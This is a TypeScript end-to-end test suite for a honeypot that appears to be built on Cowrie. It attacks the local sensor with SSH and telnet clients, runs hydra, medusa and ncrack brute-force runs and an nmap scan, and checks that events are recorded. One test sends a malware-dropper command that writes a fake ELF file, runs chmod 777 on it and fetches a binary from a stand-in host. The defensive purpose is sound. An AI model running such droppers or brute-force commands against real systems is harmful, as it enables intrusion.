// The main job, end to end: real clients attack, and the attack is found in the journal, the store, the page and the diary.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { has, kansatsuki, type Running, remove, run, startKansatsuki, until } from './running.ts';

let running: Running;
const scratch = mkdtempSync(join(tmpdir(), 'kansatsuki-clients-'));

before(async () => {
  running = await startKansatsuki();
});
after(async () => {
  await running?.stop();
  if (running) remove(running.data);
  remove(scratch);
});

const skip = (...programs: string[]) => {
  const missing = programs.filter((program) => !has(program));
  return missing.length > 0 ? `${missing.join(', ')} not installed` : false;
};
const sshOptions = [
  '-o',
  'StrictHostKeyChecking=no',
  '-o',
  'UserKnownHostsFile=/dev/null',
  '-o',
  'LogLevel=ERROR',
  '-o',
  'PubkeyAuthentication=no',
];
const ssh = (user: string, password: string, ...command: string[]) =>
  run('sshpass', [
    '-p',
    password,
    'ssh',
    ...sshOptions,
    '-p',
    `${running.ssh.port}`,
    `${user}@${running.ssh.host}`,
    ...command,
  ]);
const events = (eventid: string) => running.journal().filter((event) => event['eventid'] === eventid);

test('the panel shows where everything is', () => {
  assert.match(running.output(), /127\.0\.0\.1:\d+/);
  assert.match(running.loginUrl, /^http:\/\/127\.0\.0\.1:\d+\/login\?token=/);
});

test('ssh: a command runs in the machine and is recorded', { skip: skip('ssh', 'sshpass') }, async () => {
  const { code, stdout } = await ssh('root', 'letmein-e2e', 'uname -s; cat /etc/hostname; exit 3');
  assert.equal(code, 3);
  assert.match(stdout, /^Linux\n\S+\n$/);
  await until(() => events('cowrie.session.closed').length > 0);
  const [login] = events('cowrie.login.success');
  assert.equal(login?.['username'], 'root');
  assert.equal(login?.['password'], 'letmein-e2e');
  const session = running.journal().filter((event) => event['session'] === login?.['session']);
  assert.deepEqual(
    // Whether a client sends variables such as LANG is its own affair.
    session
      .map((event) => String(event['eventid']))
      .filter((id) => id.startsWith('cowrie.') && id !== 'cowrie.client.var'),
    [
      'cowrie.session.connect',
      'cowrie.client.version',
      'cowrie.client.kex',
      'cowrie.login.success',
      'cowrie.session.params',
      'cowrie.command.input',
      'cowrie.log.closed',
      'cowrie.session.closed',
    ],
  );
  assert.equal(
    session.find((event) => event['eventid'] === 'cowrie.command.input')?.['input'],
    'uname -s; cat /etc/hostname; exit 3',
  );
  const recording = session.find((event) => event['eventid'] === 'cowrie.log.closed');
  assert.ok(existsSync(join(running.data, 'tty', String(recording?.['shasum']))));
  // Each log is written in its own turn.
  await until(() =>
    readFileSync(join(running.data, 'log/cowrie.log'), 'latin1').includes('CMD: uname -s; cat /etc/hostname; exit 3'),
  );
});

test('ssh: an interactive shell, typed', { skip: skip('ssh', 'sshpass') }, async () => {
  const { stdout } = await run(
    'sshpass',
    ['-p', 'x1', 'ssh', '-tt', ...sshOptions, '-p', `${running.ssh.port}`, `admin@${running.ssh.host}`],
    { input: 'cd /tmp\npwd\necho $((6*7))\nnosuchprogram\nexit\n' },
  );
  assert.match(stdout, /^\/tmp\r?$/m);
  assert.match(stdout, /^42\r?$/m);
  assert.match(stdout, /nosuchprogram: command not found/);
  assert.match(stdout, /^logout\r?$/m);
  await until(() => events('cowrie.command.failed').length > 0);
  assert.equal(events('cowrie.command.failed')[0]?.['input'], 'nosuchprogram ');
});

test('paramiko: exec_command answers', {
  skip: existsSync('/usr/lib/python3/dist-packages/paramiko') ? false : 'python3-paramiko not installed',
}, async () => {
  const script = `
import paramiko, sys
client = paramiko.SSHClient(); client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
client.connect('${running.ssh.host}', ${running.ssh.port}, 'root', 'paramiko-pw', look_for_keys=False, allow_agent=False)
for command in ('id -u', 'echo out; echo err >&2; false'):
    _, out, err = client.exec_command(command)
    print(repr(out.read()), repr(err.read()), out.channel.recv_exit_status())
`;
  const { stdout, stderr } = await run('/usr/bin/python3', ['-c', script]);
  assert.equal(stdout, `b'0\\n' b'' 0\nb'out\\n' b'err\\n' 1\n`, stderr);
});

test('dbclient runs a command', { skip: skip('dbclient') }, async () => {
  const { stdout, stderr } = await run(
    'dbclient',
    ['-y', '-y', '-p', `${running.ssh.port}`, `root@${running.ssh.host}`, 'echo dropbear'],
    {
      env: { ...process.env, DROPBEAR_PASSWORD: 'db-pw', HOME: scratch },
    },
  );
  assert.equal(stdout, 'dropbear\n', stderr);
});

test('plink runs a command', { skip: skip('plink') }, async () => {
  const key = await run('ssh-keyscan', ['-t', 'ed25519', '-p', `${running.ssh.port}`, running.ssh.host]);
  const blob = Buffer.from(key.stdout.trim().split(' ').at(-1) ?? '', 'base64');
  const fingerprint = `SHA256:${createHash('sha256').update(blob).digest('base64').replace(/=+$/, '')}`;
  const { stdout, stderr } = await run(
    'plink',
    [
      '-batch',
      '-hostkey',
      fingerprint,
      '-pw',
      'plink-pw',
      '-P',
      `${running.ssh.port}`,
      `root@${running.ssh.host}`,
      'echo putty',
    ],
    { env: { ...process.env, HOME: scratch } },
  );
  assert.equal(stdout, 'putty\n', stderr);
});

const wordlist = join(scratch, 'words');
writeFileSync(wordlist, 'root\n123456\nright-password\n');

test('hydra finds the password that gets in, and each try is recorded', { skip: skip('hydra') }, async () => {
  const { stdout, stderr } = await run(
    'hydra',
    ['-l', 'root', '-P', wordlist, '-t', '2', '-s', `${running.ssh.port}`, `ssh://${running.ssh.host}`],
    { timeout: 120_000 },
  );
  assert.match(stdout, /login: root\s+password: right-password/, stdout + stderr);
  const tried = events('cowrie.login.failed').map((event) => event['password']);
  assert.ok(tried.includes('root') && tried.includes('123456'), String(tried));
});

test('medusa finds it too', { skip: skip('medusa') }, async () => {
  const { stdout, stderr } = await run(
    'medusa',
    ['-h', running.ssh.host, '-n', `${running.ssh.port}`, '-u', 'root', '-P', wordlist, '-M', 'ssh', '-t', '1', '-f'],
    { timeout: 120_000 },
  );
  assert.match(stdout, /ACCOUNT FOUND: \[ssh\].*Password: right-password/, stdout + stderr);
});

test('ncrack finds it too', { skip: skip('ncrack') }, async () => {
  const { stdout, stderr } = await run(
    'ncrack',
    ['--user', 'root', '-P', wordlist, '-f', '-T5', `ssh://${running.ssh.host}:${running.ssh.port}`],
    { timeout: 120_000 },
  );
  assert.match(stdout, /'root' 'right-password'/, stdout + stderr);
});

test('nmap -sV takes it for the OpenSSH it says it is', { skip: skip('nmap') }, async () => {
  const { stdout, stderr } = await run(
    'nmap',
    ['-sV', '-Pn', '-p', `${running.ssh.port},${running.telnet.port}`, running.ssh.host],
    { timeout: 180_000 },
  );
  assert.match(stdout, /open\s+ssh\s+OpenSSH 9\.2p1 Debian/, stdout + stderr);
  assert.match(stdout, /open\s+telnet/, stdout + stderr);
});

test('telnet: login, a command, recorded', { skip: skip('telnet') }, async () => {
  const script = `
import socket, time, re
s = socket.create_connection(('${running.telnet.host}', ${running.telnet.port})); s.settimeout(15)
seen = b''
def wait(pattern):
    global seen
    while not re.search(pattern, seen):
        data = s.recv(4096)
        if not data: raise SystemExit('closed: %r' % seen)
        seen += data
wait(rb'login: '); s.sendall(b'root\\r\\n')
wait(rb'assword: '); seen = b''; s.sendall(b'telnet-pw\\r\\n')
wait(rb'[#$] $'); seen = b''; s.sendall(b'echo over $((40+2)) telnet\\r\\n')
wait(rb'over 42 telnet'); s.sendall(b'exit\\r\\n')
print('done')
`;
  const { stdout, stderr } = await run('/usr/bin/python3', ['-c', script]);
  assert.equal(stdout, 'done\n', stderr);
  await until(() => events('cowrie.login.success').some((event) => event['protocol'] === 'telnet'));
});

test('a dropper: its URL and its file are kept', { skip: skip('ssh', 'sshpass') }, async () => {
  await ssh(
    'root',
    'drop',
    "cd /tmp; echo -ne '\\x7fELF\\x01' > .x; chmod 777 .x; wget -q -T 1 -t 1 http://203.0.113.9/bins/x86; true",
  );
  const sha = createHash('sha256').update('\x7fELF\x01', 'latin1').digest('hex');
  await until(() => readdirSync(join(running.data, 'downloads')).includes(sha), 20_000);
  await until(
    () => events('kansatsuki.session.download_request').some((event) => event['url'] === 'http://203.0.113.9/bins/x86'),
    20_000,
  );
});

test('report: the same counts as the journal', async () => {
  const failed = events('cowrie.login.failed').length;
  let report: { events_by_id: Record<string, number>; top_passwords: [string, number][] } | undefined;
  await until(async () => {
    report = JSON.parse((await kansatsuki(running.data, 'report', '--json')).stdout);
    return report!.events_by_id['cowrie.login.failed'] === failed;
  });
  assert.ok(failed > 0);
  assert.ok(report!.top_passwords.some(([password]) => password === 'letmein-e2e'));
});

test('diary: both languages, addresses masked', async () => {
  for (const lang of ['en', 'ja']) {
    const { code, stdout, stderr } = await kansatsuki(running.data, 'diary', '--lang', lang);
    assert.equal(code, 0, stderr);
    assert.match(stdout, /root/);
    assert.doesNotMatch(stdout, /127\.0\.0\.1/);
    assert.match(stdout, lang === 'ja' ? /[ぁ-ん]/ : /login/i);
  }
});

test('the page shows what happens within a second', { skip: skip('chromium', 'ssh', 'sshpass') }, async () => {
  const { chromium } = await import('playwright-core');
  const browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
    ],
  });
  try {
    const page = await browser.newPage();
    const errors: string[] = [];
    page.on('pageerror', (error) => errors.push(String(error)));
    await page.goto(running.loginUrl);
    await page.waitForLoadState('load');
    await ssh('liveuser', 'live-on-the-page', 'true');
    const written = Date.parse(
      String(events('cowrie.login.success').find((event) => event['password'] === 'live-on-the-page')?.['timestamp']),
    );
    await page.getByText('live-on-the-page').first().waitFor({ timeout: 5_000 });
    // The client itself takes its time to end; what counts is that the page was not behind it by more than a second.
    assert.ok(Date.now() - written < 5_000);
    assert.deepEqual(errors, []);
  } finally {
    await browser.close();
  }
});

test('kill -9 of either half: it comes back, the restart is recorded, nothing written is lost', {
  skip: skip('ssh', 'sshpass'),
}, async () => {
  const before = running.journal().length;
  const children = (await run('pgrep', ['-P', `${running.process.pid}`])).stdout.trim().split('\n').map(Number);
  assert.equal(children.length, 2);
  for (const pid of children) process.kill(pid, 'SIGKILL');
  await until(
    () => events('kansatsuki.process.restarted').length >= 1,
    20_000,
    () => running.output(),
  );
  await until(async () => (await ssh('root', 'after-the-crash', 'true')).code === 0, 20_000);
  await until(() => events('cowrie.login.success').some((event) => event['password'] === 'after-the-crash'));
  assert.ok(running.journal().length > before);
  const written = running.journal().length;
  await until(async () => {
    const { stdout } = await kansatsuki(running.data, 'report', '--json');
    return stdout !== '' && JSON.parse(stdout).total >= written;
  }, 20_000);
});

test('Ctrl-C stops both cleanly', async () => {
  assert.equal(await running.stop(), 0);
  assert.match(running.output(), /stopped/);
  assert.equal(running.journal().at(-1)?.['eventid'], 'kansatsuki.sensor.stopped');
});
